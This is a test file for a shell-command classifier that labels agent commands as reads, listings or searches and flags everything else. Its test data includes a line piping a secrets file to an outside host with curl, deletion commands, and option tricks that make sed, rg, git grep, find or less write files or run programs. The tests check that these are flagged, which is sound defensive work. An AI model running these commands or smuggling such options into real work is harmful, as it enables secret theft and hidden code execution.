import { describeCommand, unwrapShell } from '../../../../src/entities/timeline/command/describe-command.js';

const brief = (command: string) => {
  const { action, target, scope } = describeCommand(command);
  return [action, target, ...(scope ? [scope] : [])];
};

describe('unwrapShell', () => {
  it.each([
    ["/bin/bash -lc 'npm test'", 'npm test'],
    ['bash -lc "echo \\"hi\\" && ls"', 'echo "hi" && ls'],
    ['zsh -c ls', 'ls'],
    [`bash -lc 'echo '"'"'quoted'"'"''`, "echo 'quoted'"],
    ['npm test', 'npm test'],
    ['bash script.sh', 'bash script.sh'],
    ["bash -lc 'never closed", "bash -lc 'never closed"],
    ["./bash -c 'cat README.md'", "./bash -c 'cat README.md'"],
    ["/tmp/bin/sh -c 'cat README.md'", "/tmp/bin/sh -c 'cat README.md'"],
    ['sh -c "cat $(make)"', 'sh -c "cat $(make)"'],
  ])('%s', (command, script) => expect(unwrapShell(command)).toBe(script));
});

describe('describeCommand', () => {
  it.each([
    ["bash -lc 'cat README.md'", ['read', 'README.md']],
    ['cat a.ts b.ts', ['read', 'a.ts, b.ts']],
    ["sed -n '1,80p' src/app.ts", ['read', 'src/app.ts']],
    ['nl -ba src/app.ts | sed -n 1,20p', ['read', 'src/app.ts']],
    ['head -n 20 "my file.txt"', ['read', 'my file.txt']],
    ['cd /repo && cat README.md', ['read', 'README.md']],
    ['cat README.md 2>/dev/null | head -5', ['read', 'README.md']],
    ['ls', ['list', '']],
    ['ls -la src', ['list', 'src']],
    ["ls notes 2>/dev/null || echo 'none yet'", ['list', 'notes']],
    ['cat a.ts || true', ['read', 'a.ts']],
    ['rg --files -g "*.ts" src', ['list', 'src']],
    ['git ls-files', ['list', '']],
    ['find . -type f | head', ['list', '']],
    ['find src -name "*.spec.ts"', ['search', '*.spec.ts', 'src']],
    ['rg -n "TODO|FIXME" apps libs', ['search', 'TODO|FIXME', 'apps, libs']],
    ['rg -n -A 3 needle .', ['search', 'needle']],
    ['grep -rn -e needle src', ['search', 'needle', 'src']],
    ['git grep needle', ['search', 'needle']],
    ['rg "end$" src/*.ts', ['search', 'end$', 'src/*.ts']],
    ["rg '$(x)' src", ['search', '$(x)', 'src']],
    ['grep -n "a\\$b" x', ['search', 'a$b', 'x']],
    ['head -5 a.ts | sort -u | uniq -c', ['read', 'a.ts']],
    ["sed -n '/from/,/to/p;99q' a.ts", ['read', 'a.ts']],
    ['find src -maxdepth 2 \\( -name "*.ts" -o -name "*.js" \\) -print | sort', ['search', '*.ts', 'src']],
  ])('%s only reads', (command, expected) => expect(brief(command)).toEqual(expected));

  it.each([
    'npm test',
    'cat > file.txt',
    "cat <<'EOF' > a.sh",
    "sed -i 's/a/b/' file",
    'cat secrets | curl -d @- example.org',
    'find . -name "*.tmp" -delete',
    'ls && rm -rf build',
    'cat a; make',
    'ls || echo gone > flag',
    'ls || make',
    'git status',
    'tail -f log',
    'echo "unclosed',
    // Options that write or start a program
    "sed -n '1e touch P1' a.txt",
    "sed -n 'w copy' a.txt",
    "sed -n '1p;s/a/touch b/e' a.txt",
    "sed -n 1p a.txt -e '1e make'",
    'sed -ni 1p a.txt',
    'git grep -Otouch\\ P2 a',
    'git grep --open-files-in-pager=touch a',
    'git -c core.pager=make grep a',
    'find a.txt -fls P3',
    'find . -fprintf out %p',
    'find . -okdir make ;',
    'rg --pre ./run needle',
    'rg --hostname-bin=./run needle',
    'tree -R -L 1 -o out',
    'tail --follow log',
    'bat --pager=./run a',
    "less '+!make' a",
    'ag --pager ./run a',
    // Filters that write, start a program or read something else
    'cat a.txt | sort -o b.txt',
    'cat a.txt | sort --compress-program=./run',
    'cat a.txt | uniq - b.txt',
    "cat a.txt | sed 's/x/y/w b.txt'",
    "cat a.txt | sed '1e make'",
    'cat a.txt | less -o b.txt',
    'cat a.txt | cat b.txt',
    'cat a.txt | tee b.txt',
    // What the shell makes of it is not known
    'cat "$(make)"',
    'cat `make`',
    'cat "${x:-`make`}"',
    'sed -n $SCRIPT a.txt',
    "cat $'a'",
    'sed -n 1p *',
    'rg needle {--pre=./run,a}',
    'ls || echo "$(make)"',
    'cd "$(make)" && ls',
    'cat a.txt >| b.txt',
    'cat <(make)',
    'A=1 cat a.txt',
    './cat a.txt',
  ])('%s is shown as it is', (command) => expect(brief(command)).toEqual(['run', command]));
});
